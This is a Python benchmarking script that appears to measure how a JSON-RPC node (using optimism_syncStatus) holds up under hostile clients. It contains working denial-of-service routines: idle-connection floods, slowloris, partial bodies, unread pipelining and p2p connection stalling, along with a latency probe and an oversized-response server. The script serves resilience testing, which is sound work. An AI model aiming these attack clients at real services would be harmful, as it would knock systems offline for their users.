#!/usr/bin/env python3
"""Attack and probe clients for benches/hostile.sh (a measurement, not a test).

  hostile.py idle HOST:PORT N SECS            hold N idle connections
  hostile.py slowloris HOST:PORT N SECS       N connections sending a header byte a second
  hostile.py partial HOST:PORT N SIZE SECS    N connections each sending all but the last byte
                                              of a SIZE-byte body, then waiting
  hostile.py pipeline HOST:PORT N M SECS      N connections each sending M pipelined requests
                                              and never reading the answers
  hostile.py p2p-stall HOST:PORT N SECS       N connections that send nothing, reopened as soon
                                              as the node closes them
  hostile.py probe HOST:PORT SECS             one JSON-RPC request every 100 ms on a fresh
                                              connection, 1 s timeout; prints a JSON summary
  hostile.py big-l1 PORT SIZE                 a JSON-RPC server answering every call with a
                                              SIZE-byte result
Every attack connects from 127.0.0.1, as the honest client does.
"""
import json
import socket
import sys
import threading
import time

REQ = (b'POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n')
BODY = b'{"jsonrpc":"2.0","id":1,"method":"optimism_syncStatus","params":[]}'


def addr(s):
    host, port = s.rsplit(":", 1)
    return host, int(port)


def connect(a, timeout=2.0):
    s = socket.create_connection(a, timeout=timeout)
    s.setblocking(False)
    return s


def hold(socks, secs):
    end = time.time() + secs
    while time.time() < end:
        time.sleep(0.5)
    for s in socks:
        try:
            s.close()
        except OSError:
            pass


def idle(a, n, secs):
    socks = []
    for _ in range(n):
        try:
            socks.append(connect(a))
        except OSError:
            time.sleep(0.01)
    print(json.dumps({"attack": "idle", "opened": len(socks)}), flush=True)
    hold(socks, secs)


def slowloris(a, n, secs):
    head = b"POST / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4096
    socks = []
    for _ in range(n):
        try:
            socks.append([connect(a), 0])
        except OSError:
            pass
    print(json.dumps({"attack": "slowloris", "opened": len(socks)}), flush=True)
    end = time.time() + secs
    while time.time() < end:
        for entry in socks:
            s, i = entry
            try:
                s.send(head[i % len(head):i % len(head) + 1])
                entry[1] += 1
            except OSError:
                # Closed by the node: come back, as a slowloris client does.
                try:
                    entry[0] = connect(a)
                except OSError:
                    pass
        time.sleep(1.0)
    for s, _ in socks:
        s.close()


def partial(a, n, size, secs):
    socks = []
    chunk = b"{" + b" " * 65535
    for _ in range(n):
        try:
            s = socket.create_connection(a, timeout=2.0)
            s.sendall(REQ % size)
            sent = 0
            s.settimeout(0.2)
            while sent < size - 1:
                part = chunk[: min(len(chunk), size - 1 - sent)]
                try:
                    sent += s.send(part)
                except socket.timeout:
                    break  # the node stopped reading: back-pressure
                except OSError:
                    break
            socks.append(s)
        except OSError:
            pass
    print(json.dumps({"attack": "partial", "opened": len(socks)}), flush=True)
    hold(socks, secs)


def pipeline(a, n, m, secs):
    one = (REQ % len(BODY)) + BODY
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection(a, timeout=2.0)
            s.settimeout(0.2)
            blob = one * m
            sent = 0
            while sent < len(blob):
                try:
                    sent += s.send(blob[sent:sent + 65536])
                except (socket.timeout, OSError):
                    break  # the node stopped reading
            socks.append(s)
        except OSError:
            pass
    print(json.dumps({"attack": "pipeline", "opened": len(socks)}), flush=True)
    hold(socks, secs)


def p2p_stall(a, n, secs):
    socks = [None] * n
    end = time.time() + secs
    opened = 0
    while time.time() < end:
        for i in range(n):
            s = socks[i]
            alive = s is not None
            if alive:
                try:
                    if s.recv(4096) == b"":
                        alive = False
                except BlockingIOError:
                    pass
                except OSError:
                    alive = False
            if not alive:
                try:
                    socks[i] = connect(a)
                    opened += 1
                except OSError:
                    socks[i] = None
        time.sleep(0.05)
    print(json.dumps({"attack": "p2p-stall", "opened": opened}), flush=True)
    for s in socks:
        if s is not None:
            s.close()


def probe(a, secs):
    lat, ok, total = [], 0, 0
    end = time.time() + secs
    while time.time() < end:
        total += 1
        t0 = time.time()
        try:
            s = socket.create_connection(a, timeout=1.0)
            s.settimeout(max(0.01, 1.0 - (time.time() - t0)))
            s.sendall((REQ % len(BODY)) + BODY)
            data = b""
            while b"\r\n\r\n" not in data or not data.rstrip().endswith(b"}"):
                part = s.recv(65536)
                if not part:
                    break
                data += part
            s.close()
            took = time.time() - t0
            if data.startswith(b"HTTP/1.1 200") and took <= 1.0:
                ok += 1
                lat.append(took)
        except OSError:
            pass
        time.sleep(max(0.0, 0.1 - (time.time() - t0)))
    lat.sort()
    pick = lambda q: round(lat[min(len(lat) - 1, int(q * len(lat)))] * 1000, 1) if lat else None
    print(json.dumps({"requests": total, "answered_within_1s": ok,
                      "rate": round(ok / total, 3) if total else 0.0,
                      "p50_ms": pick(0.5), "p99_ms": pick(0.99)}), flush=True)


def big_l1(port, size):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(16)
    body = b'{"jsonrpc":"2.0","id":1,"result":"' + b"a" * size + b'"}'
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n"

    def serve(c):
        try:
            c.settimeout(5)
            c.recv(65536)
            c.sendall(head)
            c.sendall(body)
        except OSError:
            pass
        finally:
            c.close()

    while True:
        c, _ = srv.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "idle":
        idle(addr(args[0]), int(args[1]), float(args[2]))
    elif cmd == "slowloris":
        slowloris(addr(args[0]), int(args[1]), float(args[2]))
    elif cmd == "partial":
        partial(addr(args[0]), int(args[1]), int(args[2]), float(args[3]))
    elif cmd == "pipeline":
        pipeline(addr(args[0]), int(args[1]), int(args[2]), float(args[3]))
    elif cmd == "p2p-stall":
        p2p_stall(addr(args[0]), int(args[1]), float(args[2]))
    elif cmd == "probe":
        probe(addr(args[0]), float(args[1]))
    elif cmd == "big-l1":
        big_l1(int(args[0]), int(args[1]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
